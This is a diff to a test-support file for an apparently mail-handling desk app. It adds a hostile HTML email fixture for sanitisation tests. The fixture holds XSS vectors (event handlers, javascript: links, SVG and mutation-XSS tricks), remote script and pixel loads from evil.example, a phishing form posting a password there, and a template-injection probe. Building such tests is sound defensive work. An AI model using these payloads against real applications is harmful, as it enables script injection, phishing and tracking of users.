@@ -12,6 +12,25 @@ import { startDesk, type TestDesk, testClock } from '../../support/desk.ts'
 
 const markup = '"><script>document.title="owned"</script><img src=x onerror="document.title=\'owned\'">'
 
+/** What a mail's HTML can try: to run, to fetch, to lead away, to ask for a password, to cover the page, to hide. */
+const hostileHtml = `<html><head><title>owned</title><base href="https://evil.example/">
+<meta http-equiv="refresh" content="0;url=https://evil.example/refresh"><link rel="stylesheet" href="https://evil.example/style.css">
+<style>@import url(https://evil.example/import.css); body{background:url(https://evil.example/sheet.png)} .x{position:fixed}</style></head>
+<body onload="top.document.title='owned'" background="https://evil.example/body.png">
+<p onclick="alert(1)" style="background:url('https://evil.example/inline.png')">A <b>question</b> from <a href="https://evil.example/login?a=1&amp;b=2">my bank</a>
+and <a href="javascript:top.document.title='owned'">this</a> and <a href=" java&#10;script:alert(1)">that</a>.</p>
+<script>top.document.title = 'owned'</script><script src="https://evil.example/s.js"></script>
+<img src="https://evil.example/logo.png" alt="Logo" onerror="top.document.title='owned'"><img src="https://evil.example/pixel.gif" width="1" height="1">
+<img src="x" srcset="https://evil.example/set.png 2x"><picture><source srcset="https://evil.example/source.png"></picture>
+<svg onload="top.document.title='owned'"><script>top.document.title='owned'</script><image href="https://evil.example/svg.png"/><a href="javascript:alert(1)"><text>svg</text></a></svg>
+<math><mtext><table><mglyph><style><img src=x onerror="top.document.title='owned'"></style></mglyph></table></mtext></math>
+<form action="https://evil.example/form"><input name="password" autofocus onfocus="top.document.title='owned'"><button formaction="https://evil.example/b">Sign in</button></form>
+<iframe src="https://evil.example/frame"></iframe><iframe srcdoc="<script>top.document.title='owned'</script>"></iframe>
+<object data="https://evil.example/o"></object><embed src="https://evil.example/e"><video poster="https://evil.example/poster.png" src="https://evil.example/v"></video><audio src="https://evil.example/a" autoplay></audio>
+<details open ontoggle="top.document.title='owned'"><summary>more</summary></details><div style="display:none">unseen words</div>
+<noscript><p title="</noscript><img src=x onerror=top.document.title='owned'>"></noscript><template><script>top.document.title='owned'</script></template>
+<blockquote>old words</blockquote></body></html>`
+
 export interface BusyDesk {
   desk: TestDesk
   url: string
@@ -123,11 +142,19 @@ function markupMail(): string {
     'Content-Type: multipart/mixed; boundary="b"',
     '',
     '--b',
+    'Content-Type: multipart/alternative; boundary="a"',
+    '',
+    '--a',
     'Content-Type: text/plain; charset=utf-8',
     '',
     `A question: how do you handle my data? ${markup} HB-7K3M2Q {{7*7}}`,
     '',
     `> ${markup}`,
+    '--a',
+    'Content-Type: text/html; charset=utf-8',
+    '',
+    hostileHtml,
+    '--a--',
     '--b',
     'Content-Type: text/html; charset=utf-8',
     `Content-Disposition: attachment; filename*=UTF-8''${encodeURIComponent(`note${markup}.html`)}`,
